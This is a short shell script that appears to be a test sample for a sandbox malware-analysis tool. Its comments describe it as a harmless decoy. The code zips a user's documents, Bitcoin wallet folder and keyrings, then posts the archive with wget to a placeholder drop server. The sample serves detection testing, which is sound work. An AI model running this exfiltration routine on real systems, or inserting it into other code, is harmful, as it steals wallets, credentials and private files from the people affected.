#!/bin/sh
# Collection and exfiltration: zip of documents and wallet files, then wget --post-file to a drop server.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cd /home/dmitchell || exit 1
zip -qr /tmp/.w.zip Documents .bitcoin .local/share/keyrings 2>/dev/null || tar cf /tmp/.w.zip Documents
wget -q -T 2 -t 1 --post-file=/tmp/.w.zip --header='Content-Type: application/zip' -O- http://drop.exfil.example/u
ls -l /tmp/.w.zip
